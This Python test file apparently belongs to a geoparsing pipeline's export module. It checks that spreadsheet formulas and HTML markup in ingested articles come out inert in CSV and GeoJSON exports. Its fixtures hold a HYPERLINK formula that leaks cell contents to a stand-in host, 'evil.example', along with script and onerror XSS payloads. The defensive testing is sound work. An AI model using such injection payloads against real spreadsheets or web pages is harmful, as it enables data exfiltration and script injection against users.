"""Exports carry hostile text as inert data: no spreadsheet formulas, valid JSON strings."""

from __future__ import annotations

import csv
import io
import json

from placeline.export import events_table, to_csv, to_geojson
from placeline.ingest import RawDocument
from placeline.pipeline import Pipeline

TITLE = '=HYPERLINK("http://evil.example/?"&A1,"click") <script>alert(1)</script>'


def test_formulas_and_markup_in_articles_stay_inert_in_csv_and_geojson(store, geoparser):
    text = f"{TITLE}\ndate 2022-05-02\n@SUM(1+1) Shelling hit Mariupol <img src=x onerror=alert(1)>."
    Pipeline(store, geoparser).ingest([RawDocument("evil.txt", text)])
    events = store.events_frame()
    table = events_table(events, store.texts(sorted(set(events["article_id"]))))
    rows = list(csv.DictReader(io.StringIO(to_csv(table, excel=True).lstrip("\ufeff"))))
    assert rows and all(row["title"].startswith("'=HYPERLINK") for row in rows)
    assert not any(value.startswith(("=", "+", "@", "-")) for row in rows
                   for value in row.values())
    collection = json.loads(to_geojson(table))
    titles = {f["properties"]["title"] for f in collection["features"]}
    assert titles == {TITLE}  # plain text, exactly as written
    assert any("<img src=x onerror=alert(1)>" in f["properties"]["snippet"]
               for f in collection["features"])
